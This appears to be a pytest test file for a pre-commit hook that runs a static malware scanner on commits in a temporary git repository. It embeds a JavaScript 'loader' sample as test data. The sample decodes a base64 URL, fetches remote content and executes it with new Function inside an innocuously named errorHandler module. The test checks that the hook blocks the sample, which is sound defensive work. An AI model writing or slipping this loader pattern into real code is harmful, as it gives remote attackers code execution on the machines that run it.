"""The published hook, run by the real pre-commit framework on a temporary git repository.

``language: python`` would make pre-commit pip-install inspector from an index, which this
offline test cannot do, so the test installs the published hook's own ``entry`` and
``pass_filenames`` as a ``repo: local`` / ``language: system`` hook calling the venv's
``inspector``: the same command line users get, minus the install step.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).parents[2]
VENV_BIN = Path(sys.executable).parent
PRE_COMMIT = VENV_BIN / "pre-commit"
INSPECTOR = VENV_BIN / "inspector"

# The lure's loader shape in one file; the URL is a made-up id on a JSON-hosting service and
# the file is only ever read by the scanner.
LOADER = """const axios = require('axios');
const endpoint = Buffer.from('aHR0cHM6Ly9hcGkubnBvaW50LmlvLzZmMWUyZDNjNGI1YTY5Nzg=', 'base64').toString();
const errorHandler = async (error) => {
  const res = await axios.get(endpoint);
  new Function('require', res.data.cookie)(require);
};
module.exports = errorHandler;
"""
BENIGN = """function add(a, b) {
  return a + b;
}
module.exports = { add };
"""


def published_hook() -> dict:
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    return hook


def test_published_hook_definition():
    hook = published_hook()
    assert hook["id"] == "inspector-scan"
    assert hook["entry"] == "inspector scan --offline --no-semgrep --fail-on suspicious ."
    assert hook["language"] == "python"
    assert hook["pass_filenames"] is True


def _git(repo: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True, timeout=300)


@pytest.fixture
def hooked_repo(tmp_path) -> tuple[Path, dict[str, str]]:
    if shutil.which("git") is None or not PRE_COMMIT.exists() or not INSPECTOR.exists():
        pytest.skip("SKIPPED LOUDLY: needs git and the venv's pre-commit and inspector (pip install -e .[dev])")
    repo = tmp_path / "repo"
    repo.mkdir()
    env = {
        **os.environ,
        "PRE_COMMIT_HOME": str(tmp_path / "pre-commit-home"),
        "GIT_CONFIG_GLOBAL": str(tmp_path / "gitconfig"),
        "GIT_CONFIG_NOSYSTEM": "1",
        "PATH": f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}",
        "XDG_CACHE_HOME": str(tmp_path / "xdg-cache"),
        "XDG_DATA_HOME": str(tmp_path / "xdg-data"),
    }
    hook = published_hook()
    local = {
        "repos": [
            {
                "repo": "local",
                "hooks": [
                    {
                        "id": hook["id"],
                        "name": hook["name"],
                        "entry": hook["entry"].replace("inspector", str(INSPECTOR), 1),
                        "language": "system",
                        "pass_filenames": hook["pass_filenames"],
                        "require_serial": hook["require_serial"],
                    }
                ],
            }
        ]
    }
    (repo / ".pre-commit-config.yaml").write_text(yaml.safe_dump(local))
    for args in (
        ("init", "-q", "-b", "main"),
        ("config", "user.email", "dev@example.invalid"),
        ("config", "user.name", "dev"),
        ("add", ".pre-commit-config.yaml"),
        ("commit", "-q", "--no-verify", "-m", "config"),
    ):
        assert _git(repo, *args, env=env).returncode == 0
    installed = subprocess.run(
        [str(PRE_COMMIT), "install"], cwd=repo, env=env, capture_output=True, text=True, timeout=120
    )
    assert installed.returncode == 0, installed.stderr
    return repo, env


def _commit(repo: Path, env: dict[str, str], name: str, content: str) -> subprocess.CompletedProcess[str]:
    path = repo / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    assert _git(repo, "add", name, env=env).returncode == 0
    return _git(repo, "commit", "-m", f"add {name}", env=env)


def _committed(repo: Path, env: dict[str, str]) -> list[str]:
    return _git(repo, "ls-tree", "-r", "--name-only", "HEAD", env=env).stdout.split()


def test_commit_with_a_loader_is_refused(hooked_repo):
    repo, env = hooked_repo
    result = _commit(repo, env, "vendor/api/errorHandler.js", LOADER)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "inspector (static scan of changed files)" in output and "Failed" in output
    assert "vendor/api/errorHandler.js" in output
    assert "vendor/api/errorHandler.js" not in _committed(repo, env)


def test_benign_commit_passes(hooked_repo):
    repo, env = hooked_repo
    result = _commit(repo, env, "src/util.js", BENIGN)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Passed" in result.stdout + result.stderr
    assert "src/util.js" in _committed(repo, env)
